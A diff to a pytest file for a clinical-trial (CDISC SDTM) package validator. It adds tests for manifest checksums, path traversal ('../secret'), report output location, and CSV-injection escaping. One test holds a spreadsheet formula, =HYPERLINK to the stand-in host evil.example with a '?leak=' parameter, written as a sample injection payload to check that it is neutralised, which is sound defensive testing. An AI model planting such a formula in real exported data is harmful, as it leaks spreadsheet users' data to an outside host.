@@ -366,11 +366,12 @@ def test_command_exit_codes_and_reports(package, tmp_path, clean):
     broken = broken_copy(package, tmp_path, "AE", lambda f: f.__setitem__("AESER", f["AESER"].where(f.index != 0, "Y")))
     result = runner.invoke(app, ["validate", str(broken)])
     assert result.exit_code == 1
-    assert "CORE-000266/CG0042" in result.output and "1 error(s)" in result.output
-    rows = (broken / "validation-report.csv").read_text().splitlines()
+    assert "CORE-000266/CG0042" in result.output and "2 error(s)" in result.output  # and ae.xpt's sha256
+    rows = (tmp_path / "broken-validation" / "validation-report.csv").read_text().splitlines()
     assert rows[0] == "severity,rule,code,dataset,row,usubjid,variable,value,message,file"
-    assert rows[1].startswith(f"error,CORE-000266/CG0042,SERIOUS_WITHOUT_CRITERION,AE,1,{subject(clean, 'AE', 1)},AESER,Y,")
-    assert rows[1].endswith(",ae.xpt")
+    assert rows[1].startswith("error,TCIM-MANIFEST,MANIFEST_SHA256,,,,,") and rows[1].endswith(",ae.xpt")
+    assert rows[2].startswith(f"error,CORE-000266/CG0042,SERIOUS_WITHOUT_CRITERION,AE,1,{subject(clean, 'AE', 1)},AESER,Y,")
+    assert rows[2].endswith(",ae.xpt")
 
     result = runner.invoke(app, ["validate", str(tmp_path / "nowhere")])
     assert result.exit_code == 2 and "nowhere" in result.output and "Traceback" not in result.output
@@ -394,6 +395,60 @@ def test_dataset_json_package(package, tmp_path, clean, mappings):
     assert [f.code for f in report.findings if f.severity == "warning"] == ["NO_DEFINE"]
 
 
+# -- the manifest --------------------------------------------------------------------------------------
+
+def manifest_findings(directory):
+    return sorted((f.severity, f.code, f.file) for f in validate_package(directory, checks=["manifest"]).findings)
+
+
+def test_manifest_verifies_every_listed_file_and_lists_every_file(package, tmp_path):
+    copy = broken_copy(package, tmp_path, "AE", lambda f: f.__setitem__("AESER", f["AESER"].where(f.index != 0, "Y")))
+    assert (copy / "ae.xpt").stat().st_size == (package / "ae.xpt").stat().st_size  # same size, other bytes
+    (copy / "te.xpt").unlink()
+    with (copy / "define.html").open("a", encoding="utf-8") as f:
+        f.write("<!-- edited -->")
+    shutil.copy(copy / "dm.xpt", copy / "dm2.xpt")
+    for name in ("notes.csv", "extra.xml", "README.txt", ".ae.xpt.tmp"):
+        (copy / name).write_text("x")
+    assert manifest_findings(copy) == [
+        ("error", "MANIFEST_BYTES", "define.html"), ("error", "MANIFEST_MISSING", "te.xpt"),
+        ("error", "MANIFEST_SHA256", "ae.xpt"), ("error", "MANIFEST_UNLISTED", "dm2.xpt"),
+        ("error", "MANIFEST_UNLISTED", "extra.xml"), ("error", "MANIFEST_UNLISTED", "notes.csv")]
+    assert all(f.rule == "TCIM-MANIFEST" for f in validate_package(copy, checks=["manifest"]).findings)
+
+
+def test_manifest_never_leads_outside_the_package(package, tmp_path):
+    copy = tmp_path / "sdtm"
+    shutil.copytree(package, copy)
+    (tmp_path / "secret").write_text("x")
+    manifest = json.loads((copy / "manifest.json").read_text())
+    manifest["outputs"].append({"path": "../secret", "sha256": "0" * 64, "bytes": 1})
+    (copy / "manifest.json").write_text(json.dumps(manifest))
+    assert manifest_findings(copy) == [("error", "MANIFEST_PATH", "../secret")]
+
+
+def test_package_without_manifest_cannot_be_verified_and_is_still_checked(package, tmp_path):
+    copy = broken_copy(package, tmp_path, "AE", lambda f: f.__setitem__("AESER", f["AESER"].where(f.index != 0, "Y")))
+    (copy / "manifest.json").unlink()
+    report = validate_package(copy)
+    assert [(f.severity, f.code, f.rule) for f in report.findings if f.code.startswith("MANIFEST")] == [
+        ("info", "MANIFEST_ABSENT", "TCIM-MANIFEST")]
+    assert [f.rule for f in report.errors] == ["CORE-000266/CG0042"]
+
+
+def test_manifest_without_a_list_of_outputs_is_unreadable(package, tmp_path):
+    copy = tmp_path / "sdtm"
+    shutil.copytree(package, copy)
+    (copy / "manifest.json").write_text(json.dumps({"options": {}, "outputs": [{"path": "ae.xpt"}]}))
+    result = CliRunner().invoke(app, ["validate", str(copy), "--out", str(tmp_path / "reports")])
+    assert result.exit_code == 2 and "manifest.json: not a readable manifest" in result.output
+
+
+def test_to_sdtm_does_not_check_a_manifest_it_has_not_written_yet(package):
+    doc = json.loads((package / "validation-report.json").read_text())
+    assert "manifest" not in doc["checks"] and "xpt_constraints" not in doc["checks"]
+
+
 # -- the CDISC pilot ---------------------------------------------------------------------------------
 
 # What validate reports on ../shared/external/cdiscpilot01 (SDTMIG 3.1.2 data held to 3.4), per rule
@@ -408,6 +463,7 @@ PILOT_COUNTS = {
     ("TCIM-DEFINE", "error"): 9,           # define.xml describes datasets the folder does not have
     ("TCIM-DEFINE", "warning"): 57,        # define lengths longer than the longest value
     ("TCIM-TSPARM", "warning"): 1,
+    ("TCIM-MANIFEST", "info"): 1,          # no manifest.json: the files cannot be verified by checksum
 }
 
 
@@ -420,3 +476,77 @@ def test_cdisc_pilot():
     assert (day.domain, day.row, day.usubjid, day.variable, day.value) == ("AE", 971, "01-716-1063", "AESTDY", "366")
     assert sorted(f.row for f in report.findings if f.rule == "TCIM-XPT") == [9, 14, 29]
     assert ("DM", None, "ARMNRS", "") in where(report.findings, "CORE-000334/CG0016")
+
+
+# -- where the reports go: never over the package's files -------------------------------------------------
+
+def checksums(directory: Path) -> dict[str, bytes]:
+    return {p.name: p.read_bytes() for p in directory.iterdir()}
+
+
+def test_reports_go_beside_the_package_by_default(package, tmp_path):
+    copy = tmp_path / "sdtm"
+    shutil.copytree(package, copy)
+    before = checksums(copy)
+    result = CliRunner().invoke(app, ["validate", f"{copy}/"])
+    assert result.exit_code == 0, result.output
+    assert checksums(copy) == before  # not a byte of the package changed, no file added
+    reports = tmp_path / "sdtm-validation"
+    assert sorted(p.name for p in reports.iterdir()) == ["validation-report.csv", "validation-report.json"]
+    assert json.loads((reports / "validation-report.json").read_text())["findings_by_severity"]["error"] == 0
+
+
+def test_out_the_package_itself_is_refused_when_it_would_overwrite_a_listed_file(package, tmp_path):
+    copy = tmp_path / "sdtm"
+    shutil.copytree(package, copy)
+    before = checksums(copy)
+    result = CliRunner().invoke(app, ["validate", str(copy), "--out", str(copy / ".")])
+    assert result.exit_code == 2 and "Traceback" not in result.output
+    assert len(result.output.splitlines()) == 1 and "validation-report.json" in result.output, result.output
+    assert checksums(copy) == before
+
+    (copy / "manifest.json").unlink()  # nothing to overwrite that a manifest lists: --out may be the package
+    result = CliRunner().invoke(app, ["validate", str(copy), "--out", str(copy)])
+    assert result.exit_code == 0, result.output
+    assert json.loads((copy / "validation-report.json").read_text())["checks"][-1] == "manifest"
+
+
+def test_reports_that_cannot_be_written_are_one_line_and_leave_no_temporary_file(package, tmp_path):
+    (tmp_path / "taken").write_text("a file, not a directory")
+    result = CliRunner().invoke(app, ["validate", str(package), "--out", str(tmp_path / "taken")])
+    assert result.exit_code == 2 and len(result.output.splitlines()) == 1 and "taken" in result.output
+    out = tmp_path / "reports"
+    assert CliRunner().invoke(app, ["validate", str(package), "--out", str(out), "-q"]).exit_code == 0
+    assert sorted(p.name for p in out.iterdir()) == ["validation-report.csv", "validation-report.json"]
+
+
+# -- CSV injection -------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cell_that_a_spreadsheet_would_run_is_quoted(start):
+    from tcim_interop.csv_safety import safe_cell
+
+    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
+
+
+def test_csv_cells_that_are_not_formulas_are_kept():
+    from tcim_interop.csv_safety import safe_cell
+
+    assert [safe_cell(v) for v in ("HEADACHE", "a=b", " =1", "", None, 3, "'quoted")] == [
+        "HEADACHE", "a=b", " =1", "", "", "3", "'quoted"]
+    assert safe_cell("-1") == "'-1" and safe_cell(-1) == "'-1"  # OWASP: numbers too, no guessing
+
+
+def test_formula_in_a_crafted_package_is_neutralised_in_the_csv_and_raw_in_the_json(package, tmp_path):
+    import csv
+
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
+    crafted = broken_copy(package, tmp_path, "AE", lambda f: f.__setitem__("AESEV", f["AESEV"].where(f.index != 0, formula)))
+    out = tmp_path / "reports"
+    result = CliRunner().invoke(app, ["validate", str(crafted), "--out", str(out)])
+    assert result.exit_code == 1, result.output
+    with (out / "validation-report.csv").open(encoding="utf-8", newline="") as f:
+        rows = [r for r in csv.DictReader(f) if r["rule"] == "SDTMIG-4.3/CT"]
+    assert [r["value"] for r in rows] == ["'" + formula]
+    doc = json.loads((out / "validation-report.json").read_text(encoding="utf-8"))
+    assert [f["value"] for f in doc["findings"] if f["rule"] == "SDTMIG-4.3/CT"] == [formula]
